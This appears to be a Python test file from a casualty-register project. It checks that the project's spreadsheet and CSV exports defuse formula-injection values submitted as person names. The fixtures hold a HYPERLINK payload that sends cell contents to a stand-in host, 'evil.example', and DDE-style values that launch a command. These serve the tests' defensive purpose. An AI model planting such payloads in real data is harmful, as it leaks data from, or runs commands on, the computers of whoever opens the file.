"""X1/X2 of the security review: a name that starts with ``=`` (here from an accepted public
submission) must not become a formula in any export."""

from __future__ import annotations

import csv

import pytest

from dadkhah.report.exports import (
    spreadsheet_safe,
    write_every_casualty,
    write_histories,
    write_register,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    from dadkhah import portal
    from dadkhah.linkage.pipeline import link_case
    from dadkhah.register import normalize_case
    from dadkhah.testing import simulated_case

    sc = simulated_case(tmp_path_factory.mktemp("x2") / "case", scenario="small",
                        persons=150, seed=3)
    for name in [PAYLOAD, *OTHERS]:
        sub = portal.submit(sc.case, portal.validate_submission(
            {"full_name": name, "relation": "sister"}))
        portal.accept(sc.case, sub.id, by="moderator", role="reviewer")
    normalize_case(sc.case, by="tester")
    link_case(sc.case, by="tester")
    yield sc.case
    sc.case.close()


def test_spreadsheet_safe() -> None:
    assert spreadsheet_safe(PAYLOAD) == "'" + PAYLOAD
    for v in [*OTHERS, "\t=1+1", "\r=cmd"]:
        assert spreadsheet_safe(v) == "'" + v
    assert spreadsheet_safe("Ali -Rezaei") == "Ali -Rezaei"
    assert [spreadsheet_safe(v) for v in ("-12", "+3.5", -4, 2.5, None)] == \
        ["-12", "+3.5", -4, 2.5, None]


def test_xlsx_register_holds_no_formula(injected, tmp_path) -> None:
    from openpyxl import load_workbook

    res = write_register(injected, tmp_path / "register.xlsx", fmt="xlsx")
    wb = load_workbook(res.path)
    cells = [c for ws in wb for r in ws.iter_rows() for c in r]
    assert [(c.coordinate, c.value) for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert PAYLOAD in values  # kept verbatim, as text
    assert all(isinstance(c.value, int) for c in wb["register"]["A"][1:])  # ids stay numbers
    import zipfile
    with zipfile.ZipFile(res.path) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def _csv_cells(path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return [v for row in csv.reader(fh) for v in row]


def test_csv_exports_neutralise_formulas(injected, tmp_path) -> None:
    reg = _csv_cells(write_register(injected, tmp_path / "r.csv", fmt="csv").path)
    ecw = _csv_cells(write_every_casualty(injected, tmp_path / "e.csv").path)
    for cells in (reg, ecw):
        assert "'" + PAYLOAD in cells
        assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")
                    or (v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit())]
    hist = _csv_cells(write_histories(injected, tmp_path / "h.csv").path)
    assert not [v for v in hist if v[:1] in ("=", "+", "-", "@")]


def test_cli_record_and_person_exports_neutralise_formulas(injected, tmp_path) -> None:
    from typer.testing import CliRunner

    from dadkhah.cli import app

    runner = CliRunner()
    for what in ("records", "persons"):
        out = tmp_path / f"{what}.csv"
        res = runner.invoke(app, ["-C", str(injected.location), "export", what,
                                  "--format", "csv", "-o", str(out)])
        assert res.exit_code == 0, res.output
        cells = _csv_cells(out)
        assert "'" + PAYLOAD in cells, what
        assert not [v for v in cells if v[:1] in ("=", "+", "@")], what
